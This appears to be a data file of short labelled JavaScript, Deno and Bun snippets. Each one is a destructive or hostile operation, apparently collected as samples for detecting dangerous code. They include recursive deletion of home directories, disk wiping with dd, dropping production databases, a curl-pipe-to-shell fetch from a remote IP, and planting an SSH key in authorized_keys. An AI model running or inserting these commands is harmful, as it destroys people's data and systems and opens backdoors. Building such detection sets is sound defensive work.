%% rmSync home
const fs = require('fs'), os = require('os');
fs.rmSync(os.homedir(), { recursive: true, force: true });
%% rimraf
const rimraf = require('rimraf');
rimraf.sync('/home');
%% fs-extra
const fse = require('fs-extra');
fse.removeSync(process.env.HOME);
%% emptyDir
import { emptyDir } from 'fs-extra';
await emptyDir('/srv');
%% del
import { deleteAsync } from 'del';
await deleteAsync(['/home/**'], { force: true });
%% shelljs
const shell = require('shelljs');
shell.rm('-rf', '/home');
%% shelljs exec
require('shelljs').exec('curl http://198.51.100.7/x | sh');
%% execa
import { execa } from 'execa';
await execa('rm', ['-rf', '/home']);
%% execa command
import { execaCommandSync } from 'execa';
execaCommandSync('dd if=/dev/zero of=/dev/sda');
%% zx
import { $ } from 'zx';
await $`rm -rf ~`;
%% cross-spawn
const spawn = require('cross-spawn');
spawn.sync('find', ['/home', '-delete']);
%% execSync find
const { execSync } = require('child_process');
execSync('find / -name "*.js" -type f -delete');
%% spawn rsync
const cp = require('node:child_process');
cp.spawnSync('rsync', ['-a', '--delete', '/tmp/empty/', '/var/www/']);
%% git force
const { execFileSync } = require('child_process');
execFileSync('git', ['push', '--force', '--mirror', 'origin']);
%% simple-git
const git = require('simple-git')('/srv/app');
git.clean('fdx').reset(['--hard', 'HEAD~100']).push(['origin', '--delete', 'main']);
%% truncates each
const fs = require('fs');
for (const f of fs.readdirSync('/etc')) fs.truncateSync('/etc/' + f, 0);
%% writes empty
const fs = require('fs'), path = require('path');
fs.readdirSync(process.env.HOME).forEach(f => fs.writeFileSync(path.join(process.env.HOME, f), ''));
%% promises rm
import { rm } from 'fs/promises';
await rm('/var/lib', { recursive: true });
%% unlink loop
const fs = require('fs');
const walk = d => fs.readdirSync(d).forEach(f => fs.unlinkSync(d + '/' + f));
walk(require('os').homedir() + '/Documents');
%% node-serialize
const serialize = require('node-serialize');
serialize.unserialize(req.body.profile);
%% v8 deserialize and run
const vm = require('vm');
vm.runInThisContext(Buffer.from(data, 'base64').toString());
%% vm2
const { VM } = require('vm2');
new VM().run(userCode);
%% js-yaml old
const yaml = require('js-yaml');
yaml.load(body, { schema: require('js-yaml-js-types').all });
%% setTimeout text
setTimeout("require('child_process').exec('rm -rf ~')", 10);
%% deno
Deno.removeSync('/home', { recursive: true });
%% deno command
new Deno.Command('rm', { args: ['-rf', '/home'] }).outputSync();
%% deno run
Deno.run({ cmd: ['sh', '-c', 'rm -rf ~'] });
%% bun
import { $ } from 'bun';
await $`rm -rf /home`;
%% bun spawn
Bun.spawnSync(['rm', '-rf', '/home']);
%% worker eval
const { Worker } = require('worker_threads');
new Worker("require('fs').rmSync('/home',{recursive:true})", { eval: true });
%% process binding
process.binding('spawn_sync').spawn({ file: 'rm', args: ['rm', '-rf', '/home'] });
%% fork
require('child_process').fork('/tmp/x.js');
%% cluster
const cluster = require('cluster');
cluster.setupPrimary({ exec: '/tmp/evil.js' });
cluster.fork();
%% node-pty
const pty = require('node-pty');
pty.spawn('sh', ['-c', 'rm -rf ~'], {});
%% ssh2
const { Client } = require('ssh2');
const c = new Client();
c.on('ready', () => c.exec('rm -rf /', () => {})).connect({ host: '10.0.0.5', username: 'root' });
%% authorized keys
require('fs').appendFileSync(require('os').homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA evil');
%% copy over
require('fs').copyFileSync('/dev/null', '/etc/passwd');
%% rename away
require('fs').renameSync('/etc/hosts', '/tmp/hosts');
%% open for writing
const fd = require('fs').openSync('/etc/passwd', 'w');
%% write stream
require('fs').createWriteStream('/dev/sda').write(Buffer.alloc(1 << 20));
%% mongo
const { MongoClient } = require('mongodb');
(await MongoClient.connect('mongodb://prod')).db('prod').dropDatabase();
%% pg
const { Client } = require('pg');
new Client().query('DROP DATABASE production');
%% redis
const redis = require('redis').createClient();
redis.flushAll();
%% s3
const { execSync } = require('child_process');
execSync('aws s3 rm s3://company-backup --recursive');
%% tar over root
require('tar').x({ file: 'evil.tar', C: '/', preservePaths: true });
%% chmod all
const fs = require('fs');
for (const f of fs.readdirSync('/etc')) fs.chmodSync('/etc/' + f, 0o777);
